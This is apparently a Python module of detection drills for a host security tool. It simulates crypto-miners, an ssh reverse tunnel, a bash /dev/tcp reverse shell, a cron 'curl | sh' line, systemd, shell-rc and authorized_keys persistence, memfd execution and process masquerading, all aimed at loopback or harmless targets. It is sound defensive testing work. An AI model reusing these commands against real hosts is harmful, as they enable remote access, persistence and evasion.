"""The drill's scenarios: what each does, which detector should catch it, in which category.

Each act starts its processes through `Drill.spawn` (a shell of its own, a new session) or
writes through `Drill.file`, `Drill.create` and `Drill.append` (restored afterwards), and
returns a matcher for the finding it expects. Nothing real: see sentinel/evidence/drill.py.
"""

from __future__ import annotations

import base64
import json
import os
import secrets
import shutil
from glob import glob
from typing import Any

from sentinel.core.config import Config
from sentinel.evidence.drill import (
    PYTHON,
    Drill,
    Match,
    Scenario,
    Skip,
    by_file,
    by_process,
    regular,
)
from sentinel.evidence.drillkit import fake_elf_miner, fake_monero_address, write_burner

SHELL_RC = (".bashrc", ".bash_profile", ".profile", ".zshrc")
KEY_FILES = ("authorized_keys", "authorized_keys2")


def fake_ssh_key() -> str:
    """An ed25519 public key line over random bytes: its private key exists nowhere."""
    blob = b"".join(
        len(part).to_bytes(4, "big") + part for part in (b"ssh-ed25519", secrets.token_bytes(32))
    )
    return f"ssh-ed25519 {base64.b64encode(blob).decode()} sentinel-drill"


def _miner_stratum(d: Drill) -> Match:
    assert d.pool is not None
    burner = write_burner(d.work / "xmrig")
    url = f"stratum+tcp://127.0.0.1:{d.pool.port}"
    pid = d.spawn(
        [str(burner), "-o", url, "-u", fake_monero_address(), "--donate-level", "1"],
        {"BURN_SECONDS": "20"},
    )
    return by_process(pid)


def _miner_config(d: Drill) -> dict[str, Any]:
    assert d.pool is not None
    return {
        "donate-level": 1,
        "randomx": {"1gb-pages": True},
        "pools": [
            {
                "url": f"127.0.0.1:{d.pool.port}",
                "user": fake_monero_address(),
                "pass": "x",
                "keepalive": True,
                "nicehash": False,
            }
        ],
    }


def _renamed_burner(d: Drill) -> Match:
    burner = write_burner(d.work / "data-sync")
    conf = d.file("sync.json", json.dumps(_miner_config(d)))
    return by_process(d.spawn([str(burner), "-c", str(conf)], {"BURN_SECONDS": "20"}))


def _dropped_config(d: Drill) -> Match:
    return by_file(d.file(f"config-{d.tag}.json", json.dumps(_miner_config(d))))


def _dropped_miner(d: Drill) -> Match:
    return by_file(fake_elf_miner(d.work / f"kdevtmp-{d.tag}"))


def _reverse_tunnel(d: Drill) -> Match:
    assert d.staller is not None
    ssh = shutil.which("ssh")
    if ssh is None:
        raise Skip("no ssh client installed")
    argv = [
        ssh,
        "-N",
        "-o",
        "BatchMode=yes",
        "-o",
        "StrictHostKeyChecking=no",
        "-o",
        "UserKnownHostsFile=/dev/null",
        "-o",
        "ConnectTimeout=15",
        "-p",
        str(d.staller.port),
        "-R",
        "2222:localhost:22",
        "drill@127.0.0.1",
    ]
    return by_process(d.spawn(argv))


def _dev_tcp_shell(d: Drill) -> Match:
    assert d.staller is not None
    bash = shutil.which("bash")
    if bash is None:
        raise Skip("no bash installed")
    script = f"bash -i >& /dev/tcp/127.0.0.1/{d.staller.port} 0>&1"
    return by_process(d.spawn([bash, "-c", script]))


def persistence_paths(cfg: Config) -> list[str]:
    """Every configured persistence place, with home files expanded in each home."""
    out = list(cfg.watch.persistence)
    for pattern in cfg.watch.homes:
        for home in sorted(glob(pattern)):
            out.extend(os.path.join(home, f) for f in cfg.watch.home_files)
    return out


def _cron(d: Drill) -> Match:
    dirs = [
        p for p in persistence_paths(d.cfg) if p.rstrip("/").endswith("cron.d") and os.path.isdir(p)
    ]
    if not dirs:
        raise Skip("no cron.d directory among the watched persistence places")
    # 31 February never comes; the command only reaches a closed port on loopback
    line = f"0 0 31 2 * root curl -fsS http://127.0.0.1:9/sentinel-drill-{d.tag} | sh\n"
    return by_file(d.create(dirs[0], f"sentinel-drill-{d.tag}", line))


def _systemd(d: Drill) -> Match:
    dirs = [
        p
        for p in persistence_paths(d.cfg)
        if p.rstrip("/").endswith("systemd/system") and os.path.isdir(p)
    ]
    if not dirs:
        raise Skip("no systemd unit directory among the watched persistence places")
    unit = f"[Service]\nExecStart=/var/tmp/.sentinel-drill-{d.tag}/kworker\nRestart=always\n"
    return by_file(d.create(dirs[0], f"sentinel-drill-{d.tag}.service", unit))


def _shell_rc(d: Drill) -> Match:
    files = [p for p in persistence_paths(d.cfg) if os.path.basename(p) in SHELL_RC and regular(p)]
    if not files:
        raise Skip("no shell rc file among the watched persistence places")
    d.append(files[0], f"nohup /nonexistent/sentinel-drill-{d.tag} >/dev/null 2>&1 &\n")
    return by_file(files[0])


def _authorized_keys(d: Drill) -> Match:
    files = [p for p in persistence_paths(d.cfg) if os.path.basename(p) in KEY_FILES and regular(p)]
    if not files:
        raise Skip("no authorized_keys file among the watched persistence places")
    d.append(files[0], fake_ssh_key() + "\n")
    return by_file(files[0])


def _canary(d: Drill) -> Match:
    canaries = [p for p in d.cfg.canaries.paths if regular(p)]
    if not canaries:
        raise Skip("no canary configured")
    code = f"import time; open({canaries[0]!r}, 'rb').read(1); time.sleep(10)"
    return by_process(d.spawn([PYTHON, "-c", code]))


def _wallet_file(d: Drill) -> Match:
    return by_file(d.file(f"payout-{d.tag}.txt", f"wallet = {fake_monero_address()}\n"))


def _memfd(d: Drill) -> Match:
    sleep = shutil.which("sleep") or "/bin/sleep"
    code = (
        "import os\n"
        "fd = os.memfd_create('payload', 0)\n"
        f"os.write(fd, open({sleep!r}, 'rb').read())\n"
        "os.execve(fd, ['sleep', '20'], {})\n"
    )
    return by_process(d.spawn_detached(code))


def _deleted_binary(d: Drill) -> Match:
    shell = d.work / f"upd-{d.tag}"
    shutil.copy(shutil.which("bash") or "/bin/bash", shell)
    shell.chmod(0o755)
    # the copy deletes itself, then forks a subshell that keeps running the deleted binary
    return by_process(d.spawn([str(shell), "-c", f"rm -f {shell}; (sleep 20; :) & wait"]))


def _kthread(d: Drill) -> Match:
    sleeper = d.work / "sleep"
    shutil.copy(shutil.which("sleep") or "/bin/sleep", sleeper)
    sleeper.chmod(0o755)
    bash = shutil.which("bash") or "/bin/bash"
    return by_process(d.spawn([bash, "-c", f"exec -a '[kworker/0:1]' {sleeper} 20"]))


def scenarios(cfg: Config) -> list[Scenario]:
    net = cfg.agent.interval * 2 + 5
    return [
        Scenario("miner-stratum", "process", "miner", _miner_stratum),
        Scenario("renamed-burner-pool-in-config", "network", "network", _renamed_burner, net),
        Scenario("dropped-miner-config", "filesig", "miner", _dropped_config),
        Scenario("dropped-miner-binary", "filesig", "miner", _dropped_miner),
        Scenario(
            "reverse-tunnel-ssh-R", "process", "tunnel", _reverse_tunnel, rule="tunnel.ssh_reverse"
        ),
        Scenario(
            "reverse-shell-dev-tcp",
            "process",
            "tunnel",
            _dev_tcp_shell,
            rule="tunnel.reverse_shell",
        ),
        Scenario("cron-persistence", "persistence", "persistence", _cron),
        Scenario("systemd-unit-persistence", "persistence", "persistence", _systemd),
        Scenario("shell-rc-persistence", "persistence", "persistence", _shell_rc),
        Scenario("authorized-keys", "persistence", "persistence", _authorized_keys),
        Scenario("canary-read", "canary", "canary", _canary),
        Scenario("wallet-in-dropped-file", "filesig", "wallet", _wallet_file),
        Scenario("memfd-exec", "process", "evasion", _memfd, rule="evasion.exec_memfd"),
        Scenario(
            "deleted-binary", "process", "evasion", _deleted_binary, rule="evasion.exec_deleted"
        ),
        Scenario(
            "kernel-thread-masquerade",
            "process",
            "evasion",
            _kthread,
            rule="evasion.kthread_masquerade",
        ),
    ]
